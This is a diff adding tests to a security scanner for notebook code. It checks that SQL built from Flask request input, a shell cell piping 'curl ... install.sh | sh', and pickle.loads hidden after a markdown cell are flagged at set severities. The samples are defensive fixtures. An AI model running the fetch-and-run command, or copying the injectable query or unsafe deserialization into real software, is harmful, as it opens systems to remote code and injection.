@@ -75,6 +75,29 @@ def test_names_a_run_notebook_defines_are_not_outside_text(tmp_path: Path) -> No
     assert finding.severity == Severity.MEDIUM
 
 
+def test_request_text_in_a_notebook_still_blocks_and_widgets_are_the_operators(tmp_path: Path) -> None:
+    served = source(
+        "from flask import request",
+        "q = request.args['q']\nspark.sql(f\"SELECT * FROM t WHERE x = '{q}'\")",
+    )
+    (finding,) = [f for f in scan_code(tmp_path, served, "nb.py") if f.rule_id == "B608"]
+    assert finding.severity == Severity.MEDIUM
+    # Look-alike: a widget is the notebook's parameter, set by whoever runs it, as a script's argv.
+    widget = source("q = dbutils.widgets.get('q')\nspark.sql(f\"SELECT * FROM t WHERE x = '{q}'\")")
+    (finding,) = [f for f in scan_code(tmp_path, widget, "nb.py") if f.rule_id == "B608"]
+    assert finding.severity == Severity.LOW
+
+
+def test_a_titled_shell_cell_and_python_hidden_in_a_markdown_cell(tmp_path: Path) -> None:
+    text = source(
+        "# DBTITLE 1,Install tools\n# MAGIC %sh\n# MAGIC curl -sSfL https://example.com/install.sh | sh",
+        "# MAGIC %md\n# MAGIC Notes\nimport pickle\nx = pickle.loads(b)",
+    )
+    found = places(scan_code(tmp_path, text, "nb.py"))
+    assert ("MLS321", None, line_of(text, "install.sh"), "high") in found
+    assert ("B301", None, line_of(text, "pickle.loads"), "medium") in found
+
+
 def test_a_served_debugger_in_a_notebook_still_blocks(tmp_path: Path) -> None:
     # A notebook that serves a model through the driver proxy: the debugger on every interface.
     text = source(
